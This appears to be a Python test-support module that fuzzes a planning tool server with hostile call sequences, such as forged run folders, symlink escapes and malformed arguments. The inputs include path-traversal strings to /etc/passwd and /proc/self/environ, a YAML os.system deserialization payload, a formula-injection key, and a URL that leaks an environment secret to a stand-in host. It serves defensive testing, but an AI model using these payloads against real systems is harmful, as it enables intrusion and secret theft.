"""Hostile sequences of calls to the tool server, by kind, and what stands around its folder."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from optimizer.planning.ledger.manifest import manifest_text, read_manifest
from optimizer.planning.ledger.runs import run_folder

Call = tuple[str, dict[str, Any]]
SECRET = "s3cret-of-the-environment"  # noqa: S105
CANARY = "canary-beside-the-folder"


def furnish(root: Path, plan: Path, output: Path) -> None:
    """A folder to serve: a plan file with its finished run, runs that may not be read, and ways out of it."""
    shutil.copytree(plan.parent, root)
    shutil.copytree(output, root / "plan-output", symlinks=True)
    outside = root.parent / "outside"
    outside.mkdir()
    for name in ("weekly.csv", "plan.yaml", "spend.csv"):
        (outside / name).write_text(f"channel,spend\n{CANARY},1\n", encoding="utf-8")
    shutil.copytree(output, outside / "plan-output", symlinks=True)
    (root / "away").symlink_to(outside)
    (root / "away.yaml").symlink_to(outside / "plan.yaml")
    (root / "away.csv").symlink_to(outside / "weekly.csv")
    os.mkfifo(root / "pipe.csv")
    (root / "round").symlink_to(root / "round")
    _runs(root, run_folder(output))


def _runs(root: Path, finished: Path) -> None:
    """Copies of a run: not converged, and with a file, a name, a link and a manifest that are not its own."""
    for name in ("unconverged", "edited", "lacking", "added", "linked", "forged"):
        shutil.copytree(finished, root / name)
    manifest = read_manifest(finished)
    manifest.pop("checksum", None)
    for told, name in ((False, "unconverged"), (None, "forged")):
        text = manifest_text({**manifest, "converged": told})
        (root / name / "manifest.json").write_text(text, encoding="utf-8")
    (root / "edited" / "plan.csv").write_text(f"channel,cac\n{CANARY},1\n", encoding="utf-8")
    (root / "lacking" / "plan.csv").unlink()
    (root / "added" / "own.csv").write_text("cac\n1\n", encoding="utf-8")
    (root / "linked" / "worth.csv").unlink()
    (root / "linked" / "worth.csv").symlink_to(root.parent / "outside" / "weekly.csv")
    latest = root / "elsewhere"
    (latest / "runs").mkdir(parents=True)
    own = "20260101-000000-abcdef"
    (latest / "runs" / own).symlink_to(root.parent / "outside" / "plan-output" / "runs" / finished.name)
    (latest / "latest").symlink_to(f"runs/{own}")


def tree(folder: Path) -> dict[str, str]:
    """Every name below a folder and what it holds."""
    told = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            told[str(path)] = f"-> {path.readlink()}"
        elif path.is_file():
            told[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            told[str(path)] = "folder"
    return told


def bare(value: Any, under: str = "") -> Iterator[str]:
    """Numbers of an answer that are neither known nor an estimate with both its ends."""
    if isinstance(value, dict):
        if {"point", "low", "high"} <= set(value):
            return
        for key, inner in value.items():
            yield from bare(inner, key if under != "known" else under)
    elif isinstance(value, list):
        for inner in value:
            yield from bare(inner, under)
    elif type(value) in (int, float) and under not in ("known", "failed_in_all", "passed"):
        yield f"{under}: {value}"


def _ways_out(rng: random.Random, root: Path) -> str:
    outside = root.parent / "outside"
    return rng.choice(
        [
            "..", "../outside/plan.yaml", "../outside", "away/plan.yaml", "away.yaml", "away", "round/plan.yaml", "/",
            str(outside), str(outside / "plan.yaml"), "/etc/passwd", "plan.yaml/../../outside/plan.yaml",
            "plan-output/../../outside/plan-output", "away/plan-output", "plan\0.yaml", "a" * 900, "", "  ",
            "../" * 60 + "etc/passwd", "./away/./plan.yaml", "/proc/self/environ", "/dev/stdin", "elsewhere",
        ]
    )  # fmt: skip


def _tables_out(rng: random.Random, root: Path) -> str:
    out = [
        "away.csv",
        "away.csv::x",
        "aw*.csv",
        "away/*.csv",
        "away/spend.csv::a",
        "*",
        "**/spend.csv",
        "a*/../../outside/*",
    ]
    return rng.choice([*out, "pipe.csv", str(root.parent / "outside" / "spend.csv"), "../outside/spend.csv::x"])


def _paths(rng: random.Random, root: Path) -> list[Call]:
    way = _ways_out(rng, root)
    calls: list[Call] = [
        ("check", {"plan": way}),
        ("plan", {"plan": way}),
        ("what_if", {"plan": way}),
        ("certify", {"plan": way, "spend": {"tv": 1.0}}),
        ("certify", {"plan": "plan.yaml", "table": _ways_out(rng, root) or ".."}),
        *(("certify", {"plan": "plan.yaml", "table": _tables_out(rng, root)}) for _ in range(3)),
        ("read_run", {"run": way}),
        ("read_run", {"run": way, "table": "plan.csv"}),
        ("read_run", {"run": "plan-output", "table": f"../../{way}"}),
        ("explain", {"run": way}),
    ]
    return rng.sample(calls, 4)


def _plan_files(rng: random.Random, root: Path) -> list[Call]:
    """A plan file that reads or writes outside, written beside the good one."""
    text = (root / "plan.yaml").read_text(encoding="utf-8")
    out = rng.choice(["../outside/weekly.csv", "away.csv", "away/weekly.csv", str(root.parent / "outside/weekly.csv")])
    query = rng.choice(
        [
            "postgres://a:${CAC_SECRET}@db.example/x::select 1",
            "sqlite:///etc/x::select 1",
            "http://h.example/${CAC_SECRET}::select 1",
        ]
    )
    changes: list[Callable[[], str]] = [
        lambda: text.replace("path: weekly.csv", f"path: {out}"),
        lambda: text.replace("path: weekly.csv", "path: ../outside/*.csv"),
        lambda: text.replace("path: weekly.csv", "path: w*/../../outside/*.csv"),
        lambda: text.replace("path: weekly.csv", "path: away/*.csv"),
        lambda: text.replace("path: weekly.csv", f"path: '{query}'"),
        lambda: text.replace("path: weekly.csv", f"path: {{url: '{query.partition('::')[0]}', query: select 1}}"),
        lambda: f"{text}\nengine: {{views: true}}\n",
        lambda: _with_output(text, rng.choice(["../outside", "away", "away/new", "elsewhere", str(root.parent / "new")])),
        lambda: text.replace("path: touchpoints.csv", "path: pipe.csv"),
        lambda: text.replace("path: touchpoints.csv", "path: /proc/self/environ"),
        lambda: rng.choice(["- a", "name: [", "!!python/object/apply:os.system ['id']", "name: &a [*a]", "\x00", "${CAC_SECRET}: 1"]),
    ]  # fmt: skip
    path = root / f"hostile-{rng.randrange(10**9)}.yaml"
    path.write_text(rng.choice(changes)(), encoding="utf-8")
    calls: list[Call] = [
        ("check", {"plan": path.name}),
        ("plan", {"plan": path.name}),
        ("what_if", {"plan": path.name}),
        ("certify", {"plan": path.name, "spend": {"tv": 1.0}}),
    ]
    return rng.sample(calls, 2)


def _with_output(text: str, folder: str) -> str:
    kept = "\n".join(line for line in text.splitlines() if not line.startswith("output:"))
    return f"{kept}\noutput: {folder}\n"


def _unconverged(rng: random.Random, root: Path) -> list[Call]:
    path = root / "accepting.yaml"
    text = (root / "plan.yaml").read_text(encoding="utf-8")
    path.write_text(text.replace("\nmodel:\n", "\nmodel:\n  accept_unconverged: true\n"), encoding="utf-8")
    run = rng.choice(["unconverged", "forged", "edited", "lacking", "added", "linked", "elsewhere"])
    calls: list[Call] = [
        ("read_run", {"run": run}),
        ("read_run", {"run": run, "table": "plan.csv", "columns": ["cac_planned"]}),
        ("explain", {"run": run, "channel": "tv"}),
        ("explain", {"run": run}),
        ("plan", {"plan": path.name}),
        ("what_if", {"plan": path.name}),
        ("certify", {"plan": path.name, "spend": {"tv": 1.0}}),
    ]
    return rng.sample(calls, 3)


def _arguments(rng: random.Random, root: Path) -> list[Call]:
    odd: list[Any] = [None, 7, [], {}, True, "x" * 5_000, ["plan.yaml"], {"a": "b"}, "\ud7ff\u202e", 1e308]
    name = rng.choice(["check", "plan", "certify", "explain", "read_run", "what_if"])
    key = "run" if name in ("explain", "read_run") else "plan"
    return [
        (name, {key: rng.choice(odd)}),
        (name, {}),
        (rng.choice(["init", "clean", "shell", "../check", "", "check\n"]), {"plan": "plan.yaml"}),
        ("read_run", {"run": "plan-output", "table": "plan.csv", "start": rng.choice([-1, -(10**30), "x", 1.5])}),
        ("read_run", {"run": "plan-output", "table": rng.choice(["manifest.json", "posterior.nc", "x.csv", "report.html"])}),
        ("explain", {"run": "plan-output", "channel": rng.choice(["tvv", "\x00", "<b>", "a" * 150, "../tv"])}),
        ("certify", {"plan": "plan.yaml", "spend": {"=cmd|x": -1.0}, "table": "away.csv"}),
    ]  # fmt: skip


def _figures(rng: random.Random, root: Path) -> list[Call]:
    """Figures asked for without their intervals; these are answered, with them."""
    manifest = json.loads((run_folder(root / "plan-output") / "manifest.json").read_text(encoding="utf-8"))
    table = rng.choice([name for name in manifest["outputs"] if name.endswith(".csv")])
    header = (run_folder(root / "plan-output") / table).read_text(encoding="utf-8").splitlines()[0].split(",")
    column = rng.choice([name for name in header if '"' not in name])
    return [
        ("read_run", {"run": "plan-output", "table": table, "columns": [column]}),
        ("read_run", {"run": "plan-output/latest", "table": table}),
        ("explain", {"run": "plan-output", "channel": rng.choice(["tv", "generic_search", ""])}),
    ]


REFUSED = {"paths": _paths, "plan files": _plan_files, "unconverged": _unconverged, "arguments": _arguments}
ANSWERED = {"figures": _figures}


def sequences(root: Path, each: int) -> Iterator[tuple[str, list[Call]]]:
    """So many sequences of each kind."""
    for kind, make in (REFUSED | ANSWERED).items():
        for seed in range(each):
            yield kind, make(random.Random(f"{kind} {seed}"), root)  # noqa: S311
